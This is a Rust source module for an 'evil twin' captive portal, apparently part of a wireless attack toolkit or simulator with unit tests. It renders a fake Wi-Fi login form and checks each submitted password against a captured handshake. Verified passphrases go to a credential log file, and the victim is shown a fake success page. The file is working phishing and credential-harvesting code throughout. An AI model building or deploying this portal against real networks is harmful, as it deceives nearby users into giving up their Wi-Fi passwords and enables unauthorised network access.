//! Captive portal served by the evil twin.
//!
//! Every submission is checked against the captured handshake; only a
//! verified passphrase is logged and answered with the fake success page.

mod http;
mod lang;
mod victim;

pub use http::{router, run_portal_loop, serve_http, PortalMessage, PortalServiceHandle, StatusBody};
pub use lang::{Language, ParseLanguageError, StringTable, STRING_KEYS};
pub use victim::{step_victim, Engagement, ProfileError, ThinkTime, VictimAction, VictimProfile, VictimState};

use std::fs::OpenOptions;
use std::io::{self, Write};
use std::path::{Path, PathBuf};
use std::sync::Mutex;

use serde::Serialize;

use crate::attacks::{verify_candidate, HandshakeCapture, VerificationResult};
use crate::events::PortalEventKind;
use crate::frames::MacAddr;
use crate::medium::Tick;

const TEMPLATES: &[(&str, &str)] = &[("generic", include_str!("../../templates/generic.html"))];

#[derive(Debug, thiserror::Error)]
pub enum PortalError {
    #[error("unknown portal template {0:?}")]
    UnknownTemplate(String),
    #[error("cannot bind {addr}: {source}")]
    Bind { addr: String, source: io::Error },
    #[error("portal i/o: {0}")]
    Io(#[from] io::Error),
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PortalConfig {
    pub language: Language,
    pub template: String,
    pub bind_address: String,
    /// Overrides the language table's success text when set.
    pub success_message: Option<String>,
}

impl Default for PortalConfig {
    fn default() -> Self {
        Self {
            language: Language::English,
            template: "generic".into(),
            bind_address: "127.0.0.1:8080".into(),
            success_message: None,
        }
    }
}

pub fn default_password_log_name(essid: &str) -> String {
    format!("evil_twin_captive_portal_password-{essid}.txt")
}

/// Append-only record of recovered passphrases, one `tick\tssid\tpassphrase`
/// line each. Lines are always kept in memory and mirrored to disk when a
/// path is set.
#[derive(Debug)]
pub struct PasswordLog {
    path: Option<PathBuf>,
    lines: Mutex<Vec<String>>,
}

impl PasswordLog {
    pub fn in_memory() -> Self {
        Self { path: None, lines: Mutex::new(Vec::new()) }
    }

    pub fn at(path: impl Into<PathBuf>) -> Self {
        Self { path: Some(path.into()), lines: Mutex::new(Vec::new()) }
    }

    pub fn path(&self) -> Option<&Path> {
        self.path.as_deref()
    }

    pub fn append(&self, tick: Tick, ssid: &str, passphrase: &str) -> io::Result<()> {
        let line = format!("{tick}\t{ssid}\t{passphrase}");
        let mut lines = self.lines.lock().expect("password log lock poisoned");
        if let Some(path) = &self.path {
            let mut file = OpenOptions::new().create(true).append(true).open(path)?;
            writeln!(file, "{line}")?;
        }
        lines.push(line);
        Ok(())
    }

    pub fn lines(&self) -> Vec<String> {
        self.lines.lock().expect("password log lock poisoned").clone()
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum AttackState {
    Awaiting,
    Recovered,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PortalStatus {
    pub state: AttackState,
    pub since_tick: Tick,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HtmlPage(pub String);

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PortalResponse {
    Page(HtmlPage),
    Redirect { location: String },
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RetryReason {
    Wrong,
    Length,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RequestContext {
    pub path: String,
    pub retry: Option<RetryReason>,
}

impl RequestContext {
    pub fn root() -> Self {
        Self { path: "/".into(), retry: None }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SubmitOutcome {
    pub accepted: bool,
    pub response_page: HtmlPage,
    pub events: Vec<PortalEventKind>,
}

#[derive(Debug)]
pub struct CaptivePortal {
    config: PortalConfig,
    strings: StringTable,
    template: &'static str,
    handshake: HandshakeCapture,
    log: PasswordLog,
    status: Mutex<PortalStatus>,
}

impl CaptivePortal {
    /// Fails on an unknown template so a bad config never reaches a victim.
    pub fn new(config: PortalConfig, handshake: HandshakeCapture, log: PasswordLog, now: Tick) -> Result<Self, PortalError> {
        let template = TEMPLATES
            .iter()
            .find(|(id, _)| *id == config.template)
            .map(|(_, t)| *t)
            .ok_or_else(|| PortalError::UnknownTemplate(config.template.clone()))?;
        Ok(Self {
            strings: config.language.strings(),
            config,
            template,
            handshake,
            log,
            status: Mutex::new(PortalStatus { state: AttackState::Awaiting, since_tick: now }),
        })
    }

    pub fn config(&self) -> &PortalConfig {
        &self.config
    }

    pub fn essid(&self) -> &str {
        self.handshake.ssid.as_str()
    }

    pub fn password_log(&self) -> &PasswordLog {
        &self.log
    }

    pub fn status(&self) -> PortalStatus {
        *self.status.lock().expect("status lock poisoned")
    }

    /// Captive rule: the form lives at `/` and every other path redirects there.
    pub fn render_portal(&self, ctx: &RequestContext) -> PortalResponse {
        if ctx.path != "/" {
            return PortalResponse::Redirect { location: "/".into() };
        }
        PortalResponse::Page(self.form_page(ctx.retry))
    }

    pub fn handle_submit(&self, candidate: &str, now: Tick) -> SubmitOutcome {
        let mut events = vec![PortalEventKind::Submitted { masked_len: candidate.chars().count() }];
        match verify_candidate(&self.handshake, candidate) {
            VerificationResult::Verified { passphrase } => {
                if let Err(e) = self.log.append(now, self.essid(), &passphrase) {
                    log::error!("cannot append to password log: {e}");
                }
                let mut status = self.status.lock().expect("status lock poisoned");
                if status.state == AttackState::Awaiting {
                    *status = PortalStatus { state: AttackState::Recovered, since_tick: now };
                }
                events.extend([PortalEventKind::Verified, PortalEventKind::FakeSuccessShown]);
                SubmitOutcome { accepted: true, response_page: self.success_page(), events }
            }
            VerificationResult::Rejected => {
                events.push(PortalEventKind::Rejected);
                SubmitOutcome { accepted: false, response_page: self.form_page(Some(RetryReason::Wrong)), events }
            }
            VerificationResult::Indeterminate { .. } => {
                events.push(PortalEventKind::Rejected);
                SubmitOutcome { accepted: false, response_page: self.form_page(Some(RetryReason::Length)), events }
            }
        }
    }

    fn form_page(&self, retry: Option<RetryReason>) -> HtmlPage {
        let s = &self.strings;
        let message = match retry {
            None => String::new(),
            Some(RetryReason::Wrong) => format!("<p class=\"error\" role=\"alert\">{}</p>\n", escape(s.get("retry_wrong"))),
            Some(RetryReason::Length) => format!("<p class=\"error\" role=\"alert\">{}</p>\n", escape(s.get("retry_length"))),
        };
        let content = format!(
            "<p>{intro}</p>\n{message}<form method=\"post\" action=\"/submit\">\n\
             <label for=\"password\">{label}</label>\n\
             <input id=\"password\" name=\"password\" type=\"password\" autocomplete=\"off\" required>\n\
             <button type=\"submit\">{submit}</button>\n</form>",
            intro = escape(s.get("intro")),
            label = escape(s.get("password_label")),
            submit = escape(s.get("submit")),
        );
        self.fill(s.get("heading"), &content, if retry.is_some() { "retry" } else { "form" })
    }

    fn success_page(&self) -> HtmlPage {
        let s = &self.strings;
        let body = self.config.success_message.as_deref().unwrap_or(s.get("success_body"));
        let content = format!("<p class=\"success\">{}</p>", escape(body));
        self.fill(s.get("success_title"), &content, "success")
    }

    fn fill(&self, heading: &str, content: &str, state: &str) -> HtmlPage {
        let s = &self.strings;
        let html = self
            .template
            .replace("{{lang}}", self.config.language.code())
            .replace("{{dir}}", s.get("dir"))
            .replace("{{title}}", &escape(s.get("title")))
            .replace("{{heading}}", &escape(heading))
            .replace("{{essid}}", &escape(self.essid()))
            .replace("{{state}}", state)
            .replace("{{content}}", content);
        HtmlPage(html)
    }
}

fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            _ => out.push(c),
        }
    }
    out
}

/// Portal events carry the submitting station; HTTP victims have none.
pub const HTTP_CLIENT: MacAddr = MacAddr::new([0; 6]);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attacks::tests_support::sample_handshake;

    fn portal(config: PortalConfig) -> CaptivePortal {
        CaptivePortal::new(config, sample_handshake(), PasswordLog::in_memory(), 3).unwrap()
    }

    #[test]
    fn escapes_markup() {
        assert_eq!(escape(r#"<a href="x">'&'</a>"#), "&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;");
    }

    #[test]
    fn unknown_template_is_refused() {
        let config = PortalConfig { template: "fancy".into(), ..PortalConfig::default() };
        let err = CaptivePortal::new(config, sample_handshake(), PasswordLog::in_memory(), 0).unwrap_err();
        assert!(matches!(err, PortalError::UnknownTemplate(t) if t == "fancy"));
    }

    #[test]
    fn other_paths_redirect() {
        let p = portal(PortalConfig::default());
        let ctx = RequestContext { path: "/generate_204".into(), retry: None };
        assert_eq!(p.render_portal(&ctx), PortalResponse::Redirect { location: "/".into() });
        assert!(matches!(p.render_portal(&RequestContext::root()), PortalResponse::Page(_)));
    }

    #[test]
    fn submit_events() {
        let p = portal(PortalConfig { success_message: Some("Back online <soon>".into()), ..PortalConfig::default() });
        let short = p.handle_submit("abc", 4);
        assert_eq!(short.events, vec![PortalEventKind::Submitted { masked_len: 3 }, PortalEventKind::Rejected]);
        
        let ok = p.handle_submit("12345678", 9);
        assert!(ok.accepted);
        assert_eq!(ok.events[1..], [PortalEventKind::Verified, PortalEventKind::FakeSuccessShown]);
        assert!(ok.response_page.0.contains("Back online &lt;soon&gt;"));
        assert_eq!(p.status(), PortalStatus { state: AttackState::Recovered, since_tick: 9 });

        // A second success keeps the first recovery time.
        p.handle_submit("12345678", 20);
        assert_eq!(p.status().since_tick, 9);
        assert_eq!(p.password_log().lines().len(), 2);
    }
}
